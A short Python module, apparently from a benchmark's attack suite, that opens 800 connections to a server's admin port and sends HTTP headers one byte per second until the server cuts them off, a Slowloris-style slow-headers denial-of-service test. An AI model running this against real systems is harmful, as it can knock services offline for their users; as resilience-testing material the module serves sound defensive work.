"""Requests to the admin port that never end."""

from __future__ import annotations

import asyncio

from benchmarks.attacks.aim import Aim

_BYTE_S = 1.0


async def slow_headers(aim: Aim) -> None:
    """800 connections whose headers come a byte a second."""
    host, _, port = aim.admin.rpartition(":")

    async def drip() -> None:
        reader, writer = await asyncio.open_connection(host, int(port), local_addr=(aim.source, 0))
        aim.done["connections"] += 1
        end = asyncio.create_task(reader.read(1))
        try:
            writer.write(b"GET /metrics HTTP/1.1\r\nHost: admin\r\nX-Slow: ")
            while not end.done():
                writer.write(b"a")
                await writer.drain()
                await asyncio.wait({end}, timeout=_BYTE_S)
            await end
            aim.done["cut off"] += 1
        finally:
            end.cancel()
            writer.transport.abort()

    await aim.at_once(800, drip)
